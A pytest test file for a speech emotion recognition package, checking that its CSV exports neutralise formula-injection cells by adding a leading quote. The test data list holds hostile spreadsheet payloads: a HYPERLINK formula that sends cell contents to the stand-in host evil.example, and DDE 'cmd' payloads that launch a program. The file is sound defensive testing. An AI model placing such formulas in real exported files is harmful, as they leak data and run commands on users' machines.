"""CSV cells a spreadsheet would run as formulas are exported as text."""

import csv
import io

import pytest

from emotions.ser import csv_safe
from emotions.ser.metrics import to_csv
from emotions.ser.report import write_segments_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_quote(cell):
    assert csv_safe.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+1.5", "-0.25e-3", ".5", "calm", "", "a=b", "x-1"])
def test_plain_numbers_and_text_stay(cell):
    assert csv_safe.neutralise(cell) == cell


def test_non_text_cells_stay():
    assert [csv_safe.neutralise(v) for v in (-1, 2.5, None, True)] == [-1, 2.5, None, True]


def test_the_writer_neutralises_every_cell_it_writes():
    out = io.StringIO()
    writer = csv_safe.writer(out, lineterminator="\n")
    writer.writerow(["label", *HOSTILE[:2]])
    writer.writerows([[HOSTILE[2], -3, "-3"], [HOSTILE[3], "ok", "@"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["label", "'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert rows[1] == ["'" + HOSTILE[2], "-3", "-3"]
    assert rows[2] == ["'" + HOSTILE[3], "ok", "'@"]


class Segment:
    def __init__(self, index, label):
        self.index, self.start_s, self.end_s = index, float(index), index + 1.0
        self.is_silence, self.label, self.confidence = False, label, 0.9
        self.probabilities = {label: 0.9}


def test_segment_csv_labels_cannot_run():
    out = io.StringIO()
    labels = HOSTILE[:3]
    write_segments_csv(out, [Segment(i, label) for i, label in enumerate(labels)], labels)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert [row[4] for row in rows[1:]] == ["'" + label for label in labels]
    assert all(not cell.startswith(csv_safe.FORMULA_PREFIXES) for row in rows for cell in row)


def test_results_table_test_set_names_cannot_run():
    metrics = dict.fromkeys(("accuracy", "precision", "recall", "f1", "uar"), 0.5)
    text = to_csv({"=1+1 (tree)": metrics, "clean": metrics})
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'=1+1 (tree)" in cells and "clean" in cells
